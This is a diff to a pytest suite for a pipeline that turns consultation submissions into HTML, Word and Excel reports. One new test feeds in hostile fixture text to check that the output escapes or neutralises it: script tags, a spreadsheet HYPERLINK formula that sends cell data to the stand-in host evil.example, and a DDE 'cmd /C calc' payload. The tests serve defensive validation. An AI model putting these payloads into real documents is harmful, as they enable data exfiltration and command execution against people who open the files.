@@ -57,6 +57,22 @@ def _read_jsonl(path: Path) -> list[dict]:
     return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line]
 
 
+def _usable_model(settings) -> None:
+    """The project's trained model when it loads and predicts, else a fresh one (no CV)."""
+    from pipeline.classify.predictor import Predictor
+    from pipeline.classify.train import train_model
+
+    project_models = PROJECT_ROOT / "models"
+    if (project_models / "challenges.json").is_file():
+        shutil.copytree(project_models, settings.models_dir, dirs_exist_ok=True)
+        try:
+            Predictor.load(settings).predict(["Governments should fund national CERTs."])
+            return
+        except Exception:  # noqa: BLE001 - stale or partial models/: train a fresh one
+            shutil.rmtree(settings.models_dir)
+    train_model(settings, log_mlflow=False, progress=False, cross_validation=False)
+
+
 @pytest.fixture(scope="module")
 def env(tmp_path_factory):
     """A temporary params.yaml (own labels/ and models/), a trained model, two runs."""
@@ -76,9 +92,7 @@ def env(tmp_path_factory):
     params = root / "params.yaml"
     params.write_text(yaml.safe_dump(raw, sort_keys=False), encoding="utf-8")
     settings = load_settings(params)
-    from pipeline.classify.train import train_model
-
-    train_model(settings, log_mlflow=False, progress=False, cross_validation=False)
+    _usable_model(settings)
     runs = []
     for name in ("run1", "run2"):
         out = root / name
@@ -138,18 +152,21 @@ def test_quotes_are_verbatim_and_attributed_to_the_right_contributor(env):
     page = (out / "report.html").read_text(encoding="utf-8")
     # each quote: <q>text</q> ... — contributor, <a href="#src-PID">...; or the blockquote form
     pattern = re.compile(r'(?:<q>|<blockquote[^>]*>“)(.*?)(?:</q>|”</blockquote>)\s*'
-                         r'(?:<div class="attr">|<span class="attr">)— (.*?), '
+                         r'(?:<div class="attr">|<span class="attr">)— '
+                         r'<span class="who">(.*?)</span>(?: <span class="org">\((.*?)\)</span>)?, '
                          r'<a href="#src-(p-[0-9a-f]+)">', re.S)
     found = pattern.findall(page)
     assert len(found) >= 10
     run = json.loads((out / "run.json").read_text())
     assert len(found) == run["counts"]["quotes"]
     assert run["counts"]["quotes_dropped"] == 0
-    for text, who, pid in found:
-        text, who = htmllib.unescape(text), htmllib.unescape(who)
+    for text, who, org, pid in found:
+        text, who, org = htmllib.unescape(text), htmllib.unescape(who), htmllib.unescape(org)
         source = by_id[pid]
         assert text in source["text"]                # verbatim from the extracted paragraph
         assert who == source["contributor"]          # attributed to its own contributor
+        expected_org = source["organisation"] if source["organisation"] != who else None
+        assert org == (expected_org or "")
     # option_group links paragraphs to groups that exist in the report
     groups = {p["option_group"] for p in paras if p["option_group"]}
     assert groups and all(f'id="{g}"' in page for g in groups)
@@ -168,7 +185,7 @@ def test_docx_footnotes_attribute_options_to_their_contributors(env):
     from docx import Document
     from docx.oxml.ns import qn
 
-    from pipeline.report.docx_report import read_footnotes
+    from pipeline.report.docx_report import contribution_of, read_footnotes
 
     out, _ = env["runs"][0]
     paras = _read_jsonl(out / "paragraphs.jsonl")
@@ -180,9 +197,12 @@ def test_docx_footnotes_attribute_options_to_their_contributors(env):
     for item in items:
         refs = [int(r.get(qn("w:id"))) for r in item._p.iter(qn("w:footnoteReference"))]
         assert len(refs) == 1
-        named = [part[len("Contribution of "):] for part in notes[refs[0]].rstrip(".").split("; ")]
+        parts = notes[refs[0]].rstrip(".").split("; ")
+        assert all(part.startswith("Contribution of ") for part in parts)
         # the item's wording is a sentence of a paragraph by one of the named contributors
-        assert any(item.text in p["text"] and p["contributor"] in named for p in paras)
+        assert any(item.text in p["text"] and any(
+            part == contribution_of(p["contributor"], p["organisation"]) for part in parts)
+            for p in paras)
 
 
 def _chromium() -> str | None:
@@ -220,6 +240,80 @@ def test_report_renders_in_headless_chromium(env, tmp_path):
         assert im.size == (1280, 2000)
         colours = im.convert("RGB").resize((64, 100)).getcolors(maxcolors=100_000)
         assert colours is not None and len(colours) > 50   # not a blank page
+
+
+def test_dvc_stage_commands_give_the_same_report(env):
+    """`cenb extract` -> `cenb classify` -> `cenb report` (the DVC stages) = `cenb run`."""
+    root, params = env["root"], str(env["params"])
+    interim, processed, out = root / "interim", root / "processed", root / "staged"
+    cenb("extract", str(CORPUS), "--out", str(interim), "--params", params, "--quiet")
+    cenb("classify", "--interim", str(interim), "--out", str(processed), "--params", params,
+         "--quiet")
+    proc = cenb("report", "--interim", str(interim), "--processed", str(processed), "--out",
+                str(out), "--params", params, "--quiet")
+    assert "report.html" in proc.stdout
+    run1 = env["runs"][0][0]
+    staged = {p["paragraph_id"]: (p["challenges"], p["option_group"])
+              for p in _read_jsonl(out / "paragraphs.jsonl")}
+    direct = {p["paragraph_id"]: (p["challenges"], p["option_group"])
+              for p in _read_jsonl(run1 / "paragraphs.jsonl")}
+    assert staged == direct
+    run = json.loads((out / "run.json").read_text())
+    assert run["command"] == "cenb report" and run["counts"]["quotes_dropped"] == 0
+    page = (out / "report.html").read_text()
+    assert "corpus/raw/2017-bpf-" in page           # links to the submitted files
+
+
+REALDOCS = PROJECT_ROOT.parent / "shared" / "realdocs" / "files"
+BROKEN = ("constructed-truncated.docx", "constructed-zero-byte.pdf", "constructed-zip-bomb.docx",
+          "docling-paper-page-aes128-password.pdf")
+
+
+def test_quarantined_and_hostile_files(env, tmp_path):
+    """Broken files are quarantined (exit 0), hostile text stays text in every output."""
+    from openpyxl import load_workbook
+
+    src = tmp_path / "in"
+    src.mkdir()
+    for name in _corpus_files()[:2]:
+        shutil.copy(CORPUS / name, src / Path(name).name)
+    broken = [n for n in BROKEN if (REALDOCS / n).is_file()]
+    (src / "broken").mkdir()
+    for name in broken:
+        shutil.copy(REALDOCS / name, src / "broken" / name)
+    (src / "hostile <b>x.txt").write_text(
+        "Submitted by: Eve <script>alert('who')</script>\n\n"
+        "<script>alert(1)</script> Governments should require operators to filter spoofed "
+        "traffic and publish how they do it.\n\n"
+        '=HYPERLINK("http://evil.example/?d="&A1,"Click")\n\n'
+        "+cmd|' /C calc'!A0 and @SUM(1) are not formulas here.\n", encoding="utf-8")
+    out = tmp_path / "out"
+    proc = cenb("run", str(src), "--out", str(out), "--params", str(env["params"]), "--quiet")
+    assert proc.returncode == 0
+    quarantine = _read_jsonl(out / "quarantine.jsonl")
+    assert {q["source_file"] for q in quarantine} == {f"broken/{n}" for n in broken}
+    paras = _read_jsonl(out / "paragraphs.jsonl")
+    assert {p["source_file"] for p in paras} == {
+        Path(n).name for n in _corpus_files()[:2]} | {"hostile <b>x.txt"}
+    page = (out / "report.html").read_text(encoding="utf-8")
+    assert "<script" not in page.lower() and "<b>x" not in page
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    assert "hostile &lt;b&gt;x.txt" in page
+    for q in quarantine:
+        assert f">{q['reason']}<" in page
+    wb = load_workbook(out / "review.xlsx")
+    texts = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f"
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(("=", "+", "-", "@"))
+                    texts.append(cell.value)
+    assert any(t.startswith("'=HYPERLINK(") for t in texts)
+    run = json.loads((out / "run.json").read_text())
+    assert run["counts"]["files_quarantined"] == len(broken)
+    assert run["counts"]["files_seen"] == 3 + len(broken)
 
 
 def test_review_round_trip_apply_retrain_rerun(env):
